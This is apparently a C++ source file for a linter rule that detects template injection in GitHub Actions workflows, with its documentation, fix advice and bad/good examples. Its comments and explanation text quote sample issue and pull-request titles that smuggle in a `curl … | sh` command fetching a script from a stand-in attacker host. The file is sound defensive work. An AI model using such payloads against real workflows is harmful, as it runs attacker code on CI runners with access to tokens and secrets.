// GHA002 template-injection: an attacker-controlled context expanded into code.
//
// GitHub substitutes `${{ … }}` into the text before the shell (or github-script's JavaScript)
// sees it, so a pull-request title such as `"; curl evil | sh; "` becomes code.
// - Sinks: a step's `run:`, the `script` input of `actions/github-script`, and the few inputs of
//   other popular actions that are run as code (kCodeInputs), in workflows and composite
//   actions. Inputs of other actions are data, not code, and are not reported.
// - Sources: the attacker-controlled contexts of rules/gha/common.hpp (issue, pull request,
//   comment, review and discussion text, fork branch names, commit messages and authors, …),
//   read through the parsed expression, so `github.event['issue'].title`,
//   `github.event.issue.title || ''`, `format('{0}', github.head_ref)`,
//   `toJSON(github.event.issue)` and object filters (`github.event.commits.*.message`) count,
//   while a read that cannot reach the rendered text does not: `contains(github.event.issue.title,
//   'bug')`, `github.head_ref == 'main'`. Safe fields such as `github.event.issue.number` or
//   `github.event.pull_request.head.sha` are never reported.
// - `env` indirection: putting the context in `env:` and reading `$VAR` in the script is the
//   fix, but `${{ env.VAR }}` expands the same text into the script again; it is reported when
//   the variable (in the step's, job's or workflow's `env`, innermost first) carries an
//   attacker-controlled context.
// Decisions: `inputs.*` (workflow_dispatch inputs come from users with write access; workflow_call
// and composite-action inputs are the caller's choice) and `steps.*.outputs.*` are unknown and
// stay silent, like zizmor's low-confidence findings. The workflow's triggers are not
// consulted (as actionlint): a workflow that gains a trigger later keeps the hole.
#include "rules/gha/common.hpp"

namespace lintel::rules::gha {
namespace impl_template_injection {

constexpr PeerId kPeers[] = {{"zizmor", "template-injection"},
                             {"checkov", "CKV_GHA_2"},
                             {"kics", "20f14e1a"},
                             {"kics", "62ff6823"}};
constexpr std::string_view kReferences[] = {
    "https://docs.github.com/actions/security-for-github-actions/security-guides/"
    "security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
    "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    "https://cwe.mitre.org/data/definitions/94.html",
};
constexpr std::string_view kTags[] = {"security"};

void check_sink(const WorkflowDoc& doc, const StepRef& ref, const mg::Value& sink,
                std::string_view sink_name, Reporter& out) {
  for (const mg::Expression& e : sink.expressions) {
    for (const mg::ContextAccess& access : e.contexts) {
      if (attacker_controlled(access)) {
        out.report(access.span,
                   fmt::format("attacker-controlled \"{}\" is expanded into the {} of {}",
                               access.text, sink_name, step_label(ref)));
      } else if (const auto taint = env_taint(doc, ref, access)) {
        out.report(access.span,
                   fmt::format("\"{}\" holds attacker-controlled \"{}\" and is expanded into the "
                               "{} of {}",
                               access.text, taint->source, sink_name, step_label(ref)));
      }
    }
  }
}

// Action inputs that the action runs as code: a script, a shell command line or a program.
// The list follows the injection sinks zizmor takes from CodeQL's models and tests
// (`actions/github-script` `script`, `mikefarah/yq` `cmd`, `addnab/docker-run-action` `run`), plus
// the Azure CLI and PowerShell actions' `inlineScript`. Any other input is data.
struct CodeInput {
  std::string_view action;  // owner/repo
  std::string_view input;
  std::string_view label;  // how the message names the sink
};
constexpr CodeInput kCodeInputs[] = {
    {"actions/github-script", "script", "github-script script"},
    {"mikefarah/yq", "cmd", "yq cmd input"},
    {"addnab/docker-run-action", "run", "docker-run-action run input"},
    {"azure/cli", "inlineScript", "azure/cli inlineScript"},
    {"azure/powershell", "inlineScript", "azure/powershell inlineScript"},
};

void check(const WorkflowDoc& doc, Reporter& out) {
  for (const StepRef& ref : all_steps(doc)) {
    const mg::Step& step = *ref.step;
    if (step.run) check_sink(doc, ref, *step.run, "run script", out);
    if (!step.uses) continue;
    for (const CodeInput& sink : kCodeInputs)
      if (step.uses->is_action(sink.action))
        if (const mg::Entry* input = step.with.find_ignore_case(sink.input))
          check_sink(doc, ref, input->value, sink.label, out);
  }
}

}  // namespace impl_template_injection

extern const Rule template_injection{
    .meta = {.id = "GHA002",
             .slug = "template-injection",
             .severity = Severity::error,
             .format = Format::actions,
             .summary = "Attacker-controlled context expanded into a run script",
             .what = "Reports a `${{ … }}` expression in a `run:` script, in the `script` "
                     "input of `actions/github-script`, or in an input that another popular "
                     "action runs as code (`mikefarah/yq` `cmd`, `addnab/docker-run-action` "
                     "`run`, `azure/cli` and `azure/powershell` `inlineScript`), that expands "
                     "text an outside contributor "
                     "chooses: issue, pull-request, comment, review and discussion titles and "
                     "bodies, fork branch names (`github.head_ref`, "
                     "`github.event.pull_request.head.ref`), commit messages and author names, "
                     "and the like. Expressions are parsed, so bracket access, `||` defaults, "
                     "`format()` and `toJSON()` of such objects are seen, while comparisons and "
                     "`contains()` tests, whose result is only `true` or `false`, are not "
                     "reported. `${{ env.X }}` is reported when `X` is set from such a context in "
                     "the step's, job's or workflow's `env`. Numbers and SHAs "
                     "(`github.event.issue.number`, `github.event.pull_request.head.sha`) are "
                     "safe. `inputs` and step outputs are not reported: their origin is not known "
                     "from the file.",
             .why = "GitHub replaces the expression with its value before the script runs, so "
                    "the value becomes part of the program. An issue titled "
                    "`a\"; curl -sSf https://evil.example/x | sh; echo \"` runs the attacker's "
                    "command on the runner, with the job's `GITHUB_TOKEN` and secrets. Such "
                    "injections have been used to push to repositories, poison releases and "
                    "steal publishing tokens.",
             .fix = "Pass the value through an environment variable and use it as a shell "
                    "variable, quoted: `env: TITLE: ${{ github.event.issue.title }}` then "
                    "`run: echo \"$TITLE\"`. In `actions/github-script`, read "
                    "`process.env.TITLE` or `context.payload` instead of expanding the "
                    "expression into the script. Do not write `${{ env.TITLE }}` in the script: "
                    "that expands the text again.",
             .bad = "on: issues\n"
                    "jobs:\n"
                    "  triage:\n"
                    "    runs-on: ubuntu-latest\n"
                    "    steps:\n"
                    "      - run: echo \"${{ github.event.issue.title }}\"\n",
             .good = "on: issues\n"
                     "jobs:\n"
                     "  triage:\n"
                     "    runs-on: ubuntu-latest\n"
                     "    steps:\n"
                     "      - run: echo \"$TITLE\"\n"
                     "        env:\n"
                     "          TITLE: ${{ github.event.issue.title }}\n",
             .peers = impl_template_injection::kPeers,
             .references = impl_template_injection::kReferences,
             .tags = impl_template_injection::kTags,
             .security_severity = "8.0"},
    .check = for_format<WorkflowDoc, impl_template_injection::check>,
};

}  // namespace lintel::rules::gha
